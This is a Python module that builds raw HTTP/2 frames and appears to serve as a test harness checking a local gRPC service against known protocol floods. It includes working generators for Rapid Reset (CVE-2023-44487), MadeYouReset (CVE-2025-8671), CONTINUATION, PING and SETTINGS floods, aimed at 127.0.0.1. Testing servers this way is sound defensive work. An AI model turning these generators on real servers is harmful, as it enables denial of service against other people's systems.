"""HTTP/2 (RFC 9113) frame by frame, for what no well-behaved library would send."""

import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import islice

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS = 4
#: A server that takes nothing for so long, in seconds, has stopped reading.
_SILENCE = 0.5
_AT_ONCE = 100
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 §4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field_line(name: str, value: str) -> bytes:
    """A literal field that nobody indexes (RFC 7541 §6.2.2)."""
    return b"\0" + b"".join(bytes((len(text),)) + text.encode() for text in (name, value))


def _request(method: str) -> bytes:
    return b"".join(
        field_line(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("grpc-timeout", "60S"),
        )
    )


_REQUEST = _request("/tokenhouse.v1.ValidationService/ValidateToken")


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def _rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: a request, taken back at once."""
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + frame(_RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def _made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: a request, and a mistake for which the server has to take it back."""
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + frame(_WINDOW_UPDATE, 0, stream, bytes(4))


def _continuation() -> Iterator[bytes]:
    """CVE-2024-27316's class: a header block that never ends."""
    yield frame(_HEADERS, 0, 1, _REQUEST)
    while True:
        yield frame(_CONTINUATION, 0, 1, field_line("x" * 100, "y" * 100) * 4)


def _of(make: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(make, None)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": _rapid_reset,
    "made to reset": _made_you_reset,
    "continuation": _continuation,
    "pings": _of(lambda: frame(_PING, 0, 0, bytes(8))),
    "settings": _of(lambda: frame(_SETTINGS, 0, 0, b"\0\3\0\0\0\1")),
    "empty data": _of(lambda: frame(_DATA, 0, 1)),
}


def begun(method: str, calls: int) -> bytes:
    """What begins a connection, and so many calls on it that have no message."""
    head = _PREFACE + frame(_SETTINGS, 0, 0)
    return head + b"".join(
        frame(_HEADERS, _END_HEADERS, stream, _request(method)) for stream in islice(_streams(), calls)
    )


def ended_streams(connection: socket.socket, most: int) -> int:
    """Read until so many streams were reset, or the server has closed the connection: how many were."""
    received, resets = b"", 0
    while resets < most and (more := connection.recv(65536)):
        received += more
        while len(received) >= 9 and len(received) >= 9 + (size := int.from_bytes(received[:3], "big")):
            resets += received[3] == _RST_STREAM
            received = received[9 + size :]
    return resets


def flood(port: int, name: str, frames: int) -> int:
    """Send as many over one connection, or as the server takes: it may close it, or stop reading. How many it took."""
    made, sent = FLOODS[name](), 0
    with socket.create_connection(("127.0.0.1", port), timeout=_SILENCE) as connection, suppress(OSError):
        connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
        while sent < frames:
            connection.sendall(b"".join(islice(made, _AT_ONCE)))
            sent += _AT_ONCE
            _listen(connection)
    return sent


def _listen(connection: socket.socket) -> None:
    """Read what the server says, so that it is never the one who waits; it gets no answer."""
    with suppress(BlockingIOError):
        while connection.recv(65536, socket.MSG_DONTWAIT):
            pass
